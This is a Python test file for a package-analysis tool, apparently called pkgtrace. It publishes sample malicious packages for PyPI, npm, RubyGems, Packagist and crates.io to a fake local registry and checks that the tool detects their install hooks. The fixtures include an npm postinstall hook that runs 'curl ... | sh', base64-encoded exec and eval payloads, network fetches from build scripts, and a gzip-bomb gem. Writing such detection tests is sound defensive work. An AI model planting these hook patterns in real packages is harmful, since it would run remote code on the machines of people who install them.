"""`pkgtrace analyze ECO NAME --mode static` and `pkgtrace static` as a user runs them, for all
five ecosystems, against a loopback server that answers each registry's real API; the registry
URLs are pointed at it with PKGTRACE_<ECO>_URL."""

from __future__ import annotations

import base64
import hashlib
import json

import pytest

from clirun import run_cli, run_cli_json
from ecosystems.fakeregistry import FakeRegistry, serving
from static.builders import composer_bytes, crate_bytes, gem_bytes, npm_bytes, tar_bytes

URL_VARS = ("PKGTRACE_PYPI_URL", "PKGTRACE_NPM_URL", "PKGTRACE_RUBYGEMS_URL",
            "PKGTRACE_PACKAGIST_URL", "PKGTRACE_CRATES_URL")


@pytest.fixture
def registry(monkeypatch):
    with serving(monkeypatch, URL_VARS) as reg:  # run_cli's child process inherits these
        yield reg


def _publish_pypi(reg: FakeRegistry) -> None:
    sdist = tar_bytes({
        "evilpkg-0.2/PKG-INFO": b"Metadata-Version: 2.1\nName: evilpkg\nVersion: 0.2\n",
        "evilpkg-0.2/setup.py": b"import base64\nfrom setuptools import setup\n"
        b"exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\nsetup(name='evilpkg')\n"})
    digest = reg.blob("/packages/evilpkg-0.2.tar.gz", sdist)
    files = [{"filename": "evilpkg-0.2.tar.gz", "url": reg.url + "/packages/evilpkg-0.2.tar.gz",
              "packagetype": "sdist", "digests": {"sha256": digest}, "yanked": False}]
    reg.json("/pypi/evilpkg/json", {"info": {"name": "evilpkg", "version": "0.2"},
                                    "releases": {"0.1": [], "0.2": files}, "urls": files})


def _publish_npm(reg: FakeRegistry) -> None:
    tgz = npm_bytes("evil-npm", "3.0.0", {"i.js": b"require('child_process').exec("
                                                 b"'curl http://203.0.113.4/x | sh')\n"},
                    {"postinstall": "node i.js"})
    reg.blob("/evil-npm/-/evil-npm-3.0.0.tgz", tgz)
    reg.json("/evil-npm", {"name": "evil-npm", "dist-tags": {"latest": "3.0.0"}, "versions": {
        "3.0.0": {"name": "evil-npm", "version": "3.0.0", "dist": {
            "tarball": reg.url + "/evil-npm/-/evil-npm-3.0.0.tgz",
            "integrity": "sha512-" + base64.b64encode(hashlib.sha512(tgz).digest()).decode()}}}})


def _publish_gem(reg: FakeRegistry) -> None:
    reg.add_gem("evilgem", "1.0.1", gem_bytes(
        "evilgem", "1.0.1", {"ext/e/extconf.rb": b"require 'net/http'\n"
                             b"Net::HTTP.get(URI('http://198.51.100.9/k'))\n"}, ["ext/e/extconf.rb"]))


def _publish_composer(reg: FakeRegistry) -> None:
    z = composer_bytes("acme/evil", {"src/P.php": b"<?php eval(base64_decode("
                                                  b"'ZWNobyAicGtndHJhY2UiOw=='));\n"},
                       {"type": "composer-plugin", "extra": {"class": "Acme\\P"}},
                       top="acme-evil-0a1b2c/")
    reg.add_composer("acme/evil", [("v1.1.0", z), ("v1.0.0", None)])


def _publish_crate(reg: FakeRegistry) -> None:
    reg.add_crate("evil-crate", [("0.4.2", crate_bytes("evil-crate", "0.4.2", {
        "build.rs": b'fn main() { std::process::Command::new("curl")'
                    b'.arg("http://192.0.2.200/b").status().ok(); }\n'}), False)])


CASES = [
    # ecosystem, spec, publish, expected (name, version), hook kind, a signal (kind, value)
    ("pypi", "evilpkg", _publish_pypi, ("evilpkg", "0.2"), "setup.py",
     ("decoded_base64", "import os; os.system('id')")),
    ("npm", "evil-npm", _publish_npm, ("evil-npm", "3.0.0"), "npm-script",
     ("url", "http://203.0.113.4/x")),
    ("rubygems", "evilgem", _publish_gem, ("evilgem", "1.0.1"), "gem-extension",
     ("url", "http://198.51.100.9/k")),
    ("packagist", "acme/evil", _publish_composer, ("acme/evil", "v1.1.0"), "composer-plugin",
     ("decoded_base64", 'echo "pkgtrace";')),
    ("crates.io", "evil-crate", _publish_crate, ("evil-crate", "0.4.2"), "build.rs",
     ("ip", "192.0.2.200")),
]


@pytest.mark.parametrize("eco,spec,publish,expected,hook,signal", CASES, ids=[c[0] for c in CASES])
def test_analyze_mode_static_every_ecosystem(registry, tmp_path, eco, spec, publish, expected,
                                             hook, signal):
    publish(registry)
    docs = run_cli_json("analyze", eco, spec, "--mode", "static", "--results",
                        str(tmp_path / "results"))
    assert set(docs) == {"static", "report"}  # no sandbox run in static mode
    static, report = docs["static"], docs["report"]
    assert (static["ecosystem"], static["name"], static["version"]) == (eco, *expected)
    assert static["schema_version"] == "1.0" and static["results"]["files"]
    section = report["static"]
    assert section["extraction"]["status"] == "ok"
    assert hook in {h["kind"] for h in section["install_hooks"]}
    assert signal in {(s["kind"], s["value"]) for s in section["signals"]}
    assert "static_s" in report["timings"]
    # the artifact came from the loopback registry, with its published digest checked
    assert report["artifact"]["url"].startswith(registry.url)
    stored = list((tmp_path / "results").rglob("*.json"))
    assert stored, "analyze stores its documents"


def test_analyze_static_pinned_version_and_summary(registry, tmp_path):
    _publish_crate(registry)
    r = run_cli("analyze", "crates.io", "evil-crate@0.4.2", "--mode", "static",
                "--results", str(tmp_path / "r"))
    assert "crates.io/evil-crate@0.4.2" in r.stderr and "static" in r.stderr


@pytest.mark.parametrize("args,code,message", [
    (("analyze", "rubygems", "nosuchgem", "--mode", "static"), 3, "not found"),
    (("analyze", "crates.io", "../etc", "--mode", "static"), 3, "not a crate name"),
    (("analyze", "cobol", "x", "--mode", "static"), 2, "unknown ecosystem"),
    (("analyze", "npm", "x", "--mode", "sideways"), 2, "--mode must be"),
    (("static", "pypi"), 2, "give a package NAME or --local FILE"),
    (("static", "pypi", "--local", "/nonexistent/x.tar.gz"), 2, "no such file"),
])
def test_bad_input_gets_a_clear_error(registry, tmp_path, args, code, message):
    r = run_cli(*args, "--results", str(tmp_path / "r"), check=False) if args[0] == "analyze" \
        else run_cli(*args, check=False)
    assert r.returncode == code, r.stderr
    assert message in r.stderr and "Traceback" not in r.stderr


def test_static_local_every_kind(tmp_path):
    """`pkgtrace static ECO --local FILE --json` identifies each kind from its own metadata."""
    arts = {
        "rubygems": ("g-1.0.0.gem", gem_bytes("g", "1.0.0", {"lib/g.rb": b"x = 1\n"}), ("g", "1.0.0")),
        "packagist": ("v-p.zip", composer_bytes("v/p", {"a.php": b"<?php echo 1;"}), ("v/p", None)),
        "crates.io": ("c-0.1.0.crate", crate_bytes("c", "0.1.0", {"src/lib.rs": b"fn a() {}\n"}),
                      ("c", "0.1.0")),
        "npm": ("n.tgz", npm_bytes("n", "2.0.0", {"index.js": b"1"}), ("n", "2.0.0")),
    }
    for eco, (fn, data, (name, version)) in arts.items():
        path = tmp_path / fn
        path.write_bytes(data)
        out = run_cli_json("static", eco, "--local", str(path))
        assert out["ossf"]["name"] == name and out["ossf"]["ecosystem"] == eco
        if version:
            assert out["ossf"]["version"] == version
        assert out["report"]["extraction"]["status"] == "ok"


def test_static_local_not_an_archive(tmp_path):
    junk = tmp_path / "junk-1.0.tar.gz"
    junk.write_bytes(b"\x1f\x8b not really gzip")
    r = run_cli("static", "pypi", "--local", str(junk), "--json", check=False)
    assert r.returncode == 2 and "Traceback" not in r.stderr
    out = json.loads(r.stdout)
    assert out["report"]["extraction"]["status"] == "failed"
    assert out["report"]["extraction"]["errors"][0]["kind"] == "corrupt"


def test_gem_whose_metadata_is_a_gzip_bomb(tmp_path):
    """metadata.gz that expands to 1 GiB (64 gzip members of 16 MiB of zeros after the real spec):
    name and version are still read from its head, the static pass reports the bound, and no
    reader of the .gem (the local artifact's spec, the extractor, the verdict's code reader)
    holds more than a bounded head in memory."""
    import gzip
    import io
    import os
    import subprocess
    import sys
    import tarfile

    good = gem_bytes("bomb", "1.0.0", {"lib/bomb.rb": b"x = 1\n"})
    zeros = gzip.compress(b"\0" * (16 << 20), 9)
    with tarfile.open(fileobj=io.BytesIO(good)) as t:
        members = {m.name: t.extractfile(m).read() for m in t}
    members["metadata.gz"] += zeros * 64
    gem = tmp_path / "bomb-1.0.0.gem"
    gem.write_bytes(tar_bytes(members, compress=""))
    out = tmp_path / "out.json"
    with out.open("wb") as fh:
        child = subprocess.Popen([sys.executable, "-m", "pkgtrace", "analyze", "rubygems",
                                  "--local", str(gem), "--mode", "static", "--json",
                                  "--results", str(tmp_path / "r")], stdout=fh,
                                 stderr=subprocess.DEVNULL)
        _, status, usage = os.wait4(child.pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0
    assert usage.ru_maxrss < 600 << 10, f"peak RSS {usage.ru_maxrss >> 10} MiB"  # KiB on Linux
    doc = json.loads(out.read_text())
    assert (doc["static"]["name"], doc["static"]["version"]) == ("bomb", "1.0.0")
    problems = doc["report"]["static"]["extraction"]["errors"]
    assert any(p["kind"] == "limit" and p["path"] == "metadata.gz" for p in problems)
